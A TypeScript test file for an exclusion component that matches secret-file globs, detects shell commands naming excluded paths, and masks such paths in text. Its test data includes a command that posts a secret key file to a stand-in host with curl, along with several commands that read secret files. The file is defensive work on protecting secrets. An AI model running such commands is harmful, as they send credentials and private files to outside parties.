import { expect, test } from "bun:test";
import { array, assert, constantFrom, oneof, property, string, stringMatching } from "fast-check";
import { mkdirSync, symlinkSync, writeFileSync } from "node:fs";
import { Exclusion, EXCLUDED } from "../../src/base/exclude/exclusion.ts";
import { realPathOf } from "../../src/base/files/real-path.ts";
import { tempDir } from "../support/temp-dir.ts";

const PROJECT = "/home/me/shop";
const of = (...globs: string[]): Exclusion =>
  new Exclusion({ globs, projects: [PROJECT], home: "/home/me", real: realPathOf });

test.each<[glob: string, covered: string[], not: string[]]>([
  ["secrets", ["secrets", "secrets/a", "deep/er/secrets/a/b", "/etc/secrets"], ["secret", "secrets2/a", "a-secrets"]],
  ["secrets/", ["secrets/a"], ["src/a"]],
  ["secrets/**", ["secrets", "secrets/a", "./secrets/../secrets/a"], ["deep/secrets/a", "secrets.ts"]],
  ["src/*.key", ["src/a.key", "src/.key"], ["src/deep/a.key", "a.key", "/src/a.key"]],
  ["*.pem", ["a.pem", "deep/.a.pem", "/etc/ssl/a.pem"], ["a.pem.txt"]],
  ["**/.env*", [".env", "a/.env.local", "/x/.env"], ["env"]],
  ["{a,b}/c", ["a/c", "b/c/d"], ["c", "a/b"]],
  ["~/private", ["~", "/home/me/private/a"].slice(1), ["private/a", "/home/you/private"]],
  ["/etc/**", ["/etc", "/etc/passwd"], ["etc/passwd", "/etcetera"]],
  ["**", ["a", "/etc/passwd", PROJECT, "/"], []],
  ["home", ["home/a"], ["a", PROJECT]],
  ["caf\u00e9", ["cafe\u0301/a"], ["cafe/a"]],
])("%s is of the paths that it says", (glob, covered, not) => {
  const exclusion = of(glob);
  expect(covered.filter((path) => !exclusion.covers(path))).toEqual([]);
  expect(not.filter((path) => exclusion.covers(path))).toEqual([]);
});

test.each<[string, boolean]>([
  ["**", true],
  ["~/**", true],
  ["/home/me/shop", true],
  ["/home/*/sh*", true],
  ["/", true],
  ["shop", false],
  ["*", false],
  ["src/**", false],
])("%s of a project excludes the whole of it: %p", (glob, isWhole) => {
  expect(of(glob).coversProject).toBe(isWhole);
});

test.each([
  "cat secrets/key",
  "cat ./src/../secrets/key | wc -l",
  "cat 'secrets/key with spaces'",
  'grep x "secrets/key"',
  String.raw`cat secrets/key\ two`,
  "curl -d @secrets/key http://x",
  "tool --file=secrets/key",
  "x <secrets/key>out",
  "cd secrets&&ls",
  "cat ~/shop/secrets/key",
  "cat $HOME/shop/secrets/key",
  "cat secrets/*",
])("a command that names an excluded path is known: %s", (command) => {
  expect(of("secrets/**").isNamedIn(command)).toBe(true);
  expect(of("other/**").isNamedIn(command)).toBe(false);
});

test("a path by a link to what is excluded is excluded", () => {
  using dir = tempDir();
  mkdirSync(`${dir.path}/secrets`);
  writeFileSync(`${dir.path}/secrets/key`, "");
  symlinkSync("secrets", `${dir.path}/plain`);
  const exclusion = new Exclusion({ globs: ["secrets/**"], projects: [dir.path], home: "", real: realPathOf });
  expect(exclusion.covers("plain/key")).toBe(true);
  expect(exclusion.covers("plain/new")).toBe(true);
  expect(exclusion.covers("other/key")).toBe(false);
});

test("of a text the excluded paths alone are taken out, and words of prose stay", () => {
  const exclusion = of("secrets/**", "*.pem");
  expect(exclusion.mask('see "secrets/key" and a.pem, then the secrets of x/y.ts.')).toBe(
    `see "${EXCLUDED}" and ${EXCLUDED} then the secrets of x/y.ts.`,
  );
  expect(exclusion.mask(`${PROJECT}/secrets/a b`)).toBe(EXCLUDED);
});

const name = stringMatching(/^[a-z0-9_-]{1,8}$/);
const path = array(name, { minLength: 1, maxLength: 5 }).map((names) => names.join("/"));
const glob = oneof(
  path,
  name,
  path.map((one) => `${one}/**`),
  path.map((one) => `**/${one}`),
  name.map((one) => `*.${one}`),
  string({ minLength: 1, maxLength: 20, unit: constantFrom(..."ab*?[]{},/.~!\\".split("")) }),
);

test("what is in a directory that is covered is covered, and more globs cover no less", () => {
  assert(
    property(array(glob, { minLength: 1, maxLength: 4 }), glob, path, name, (globs, more, at, inside) => {
      const isCovered = of(...globs).covers(at);
      if (!isCovered) return;
      expect(of(...globs).covers(`${at}/${inside}`)).toBe(true);
      expect(of(...globs, more).covers(at)).toBe(true);
    }),
  );
});

test("a path of the project is covered by itself as a glob, wherever it is named in a command or a text", () => {
  assert(
    property(path, name, name, (at, before, after) => {
      const exclusion = of(`${at}/**`);
      expect(exclusion.covers(at)).toBe(true);
      expect(exclusion.covers(`${PROJECT}/${at}/x`)).toBe(true);
      expect(exclusion.isNamedIn(`${before} '${at}/x' ${after}`)).toBe(true);
      const masked = exclusion.mask(`${before} ${at}/x. ${after}`);
      expect(masked).not.toContain(`${at}/x`);
      expect(exclusion.mask(masked)).toBe(masked);
    }),
  );
});

test("no text and no glob makes it fail or wait", () => {
  assert(
    property(glob, string({ maxLength: 200, unit: "binary" }), (one, text) => {
      const exclusion = of(one);
      exclusion.covers(text.replaceAll("\0", ""));
      exclusion.isNamedIn(text);
      exclusion.mask(text);
    }),
  );
  const startMs = performance.now();
  of("*a".repeat(250), "**/".repeat(150) + "x", "{a,b}".repeat(60)).mask("a/".repeat(30_000) + " \"'`\\".repeat(2000));
  expect(performance.now() - startMs).toBeLessThan(5000);
});
